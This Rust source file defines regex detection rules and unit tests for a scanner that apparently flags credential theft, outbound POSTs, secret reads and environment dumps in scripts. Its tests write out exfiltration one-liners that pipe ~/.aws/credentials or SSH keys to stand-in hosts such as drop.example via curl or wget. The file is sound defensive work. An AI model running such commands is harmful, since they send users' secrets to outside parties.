use crate::rules::types::{Confidence, FindingType, Matcher, Rule, Severity};
use regex::Regex;

pub fn rules() -> Vec<Rule> {
    vec![ex_001(), ex_002(), ex_003(), en_001()]
}

/// Credential-bearing path read co-occurring with a network transfer command.
fn ex_001() -> Rule {
    Rule {
        id: "EX-001",
        title: "Credential file read near network transfer",
        severity: Severity::Critical,
        confidence: Confidence::High,
        finding_type: FindingType::CredentialExfil,
        matcher: Matcher::Near {
            a: Regex::new(
                r"(cat|less|head|tail|cp|scp|base64|xxd)\s+[^\n|;]*(\.ssh/|\.aws/credentials|\.netrc|\.npmrc|\.pgpass|id_rsa|id_ed25519)",
            )
            .unwrap(),
            b: Regex::new(r"\b(curl|wget|nc|netcat)\b").unwrap(),
            window: 200,
        },
        exclusions: vec![Regex::new(r"localhost|127\.0\.0\.1|::1").unwrap()],
        message: "Credential file is read next to a network transfer command",
    }
}

fn ex_002() -> Rule {
    Rule {
        id: "EX-002",
        title: "Outbound POST with request body",
        severity: Severity::Medium,
        confidence: Confidence::High,
        finding_type: FindingType::NetworkPost,
        matcher: Matcher::Any(vec![
            Regex::new(r"\bcurl\b[^\n]*(-d\s|--data\b|--data-binary\b|--data-raw\b|-F\s|--form\b|-T\s|--upload-file\b)").unwrap(),
            Regex::new(r"\bcurl\b[^\n]*-X\s*POST").unwrap(),
            Regex::new(r"\bwget\b[^\n]*--post-(data|file)").unwrap(),
            Regex::new(r"(?s)\bfetch\s*\([^;]{0,200}POST").unwrap(),
            Regex::new(r"\brequests\.post\s*\(").unwrap(),
            Regex::new(r"urllib\.request\.urlopen\([^)]*data\s*=").unwrap(),
        ]),
        exclusions: vec![Regex::new(r"localhost|127\.0\.0\.1|::1|\[::1\]").unwrap()],
        message: "Outbound POST request with a body detected",
    }
}

fn ex_003() -> Rule {
    Rule {
        id: "EX-003",
        title: "Secret or credential source read",
        severity: Severity::Medium,
        confidence: Confidence::High,
        finding_type: FindingType::SecretRead,
        matcher: Matcher::Any(vec![
            Regex::new(
                r"(cat|less|head|tail|source|cp|scp)\s+[^\n|;]*(\.ssh/|\.aws/credentials|\.netrc|\.npmrc|\.pgpass|id_rsa|id_ed25519)",
            )
            .unwrap(),
            Regex::new(r"(cat|source)\s+[^\n|;]*\.env\b").unwrap(),
            Regex::new(r"process\.env\.[A-Z0-9_]*(KEY|TOKEN|SECRET|PASSWORD|CREDENTIAL)").unwrap(),
            Regex::new(r#"os\.environ(\.get)?[\(\[]\s*['"][A-Z0-9_]*(KEY|TOKEN|SECRET|PASSWORD)"#)
                .unwrap(),
        ]),
        exclusions: vec![],
        message: "Reads a secret store, credential file, or secret-bearing environment variable",
    }
}

/// Whole-environment dumps only. Plain property reads of a single variable
/// stay out of this rule to keep the noise floor down.
fn en_001() -> Rule {
    Rule {
        id: "EN-001",
        title: "Environment dump",
        severity: Severity::Low,
        confidence: Confidence::Medium,
        finding_type: FindingType::EnvAccess,
        matcher: Matcher::Any(vec![
            Regex::new(r"\bprintenv\b").unwrap(),
            Regex::new(r"(^|[|;&\s])env\s*([>|])").unwrap(),
            Regex::new(r"JSON\.stringify\(\s*process\.env\s*\)").unwrap(),
            Regex::new(r"dict\(\s*os\.environ\s*\)").unwrap(),
            Regex::new(r"os\.environ\.items\(\)").unwrap(),
        ]),
        exclusions: vec![],
        message: "Dumps the full process environment",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_ex_001_detects_credential_read_piped_to_network() {
        let rule = ex_001();
        let cases = vec![
            ("cat ~/.aws/credentials | curl -d @- https://drop.example", true),
            ("cat ~/.ssh/id_rsa && wget --post-file=- https://x.example", true),
            ("cat ~/.aws/credentials", false),
            ("curl https://api.example.com/data", false),
            ("cat ~/.aws/credentials | curl -d @- http://localhost:8080", false),
        ];
        for (input, expected) in cases {
            assert_eq!(rule.is_match(input), expected, "input: {}", input);
        }
    }

    #[test]
    fn test_ex_001_window_is_bounded() {
        let rule = ex_001();
        let far = format!(
            "cat ~/.ssh/id_rsa\n{}\ncurl https://x.example",
            "# padding\n".repeat(60)
        );
        assert!(!rule.is_match(&far));
    }

    #[test]
    fn test_ex_002_detects_post_with_body() {
        let rule = ex_002();
        let cases = vec![
            (r#"curl -X POST https://collect.example -d "p=$DATA""#, true),
            ("curl --data-binary @secrets.tgz https://drop.example", true),
            ("wget --post-data=x=1 https://drop.example", true),
            (r#"fetch("https://c.example", { method: "POST", body: data })"#, true),
            ("requests.post(url, json=payload)", true),
            ("curl https://api.example.com", false),
            ("curl -X POST http://localhost:3000 -d x=1", false),
        ];
        for (input, expected) in cases {
            assert_eq!(rule.is_match(input), expected, "input: {}", input);
        }
    }

    #[test]
    fn test_ex_003_detects_secret_reads() {
        let rule = ex_003();
        let cases = vec![
            ("cat ~/.ssh/id_ed25519", true),
            ("source .env", true),
            ("const key = process.env.API_KEY;", true),
            (r#"token = os.environ["GITHUB_TOKEN"]"#, true),
            ("const mode = process.env.NODE_ENV;", false),
            ("echo hello", false),
        ];
        for (input, expected) in cases {
            assert_eq!(rule.is_match(input), expected, "input: {}", input);
        }
    }

    #[test]
    fn test_en_001_matches_dumps_not_single_reads() {
        let rule = en_001();
        assert!(rule.is_match("printenv > /tmp/e.txt"));
        assert!(rule.is_match("env | grep -v PATH"));
        assert!(rule.is_match("JSON.stringify(process.env)"));
        assert!(!rule.is_match("const key = process.env.API_KEY;"));
        assert!(!rule.is_match("environment: production"));
    }
}
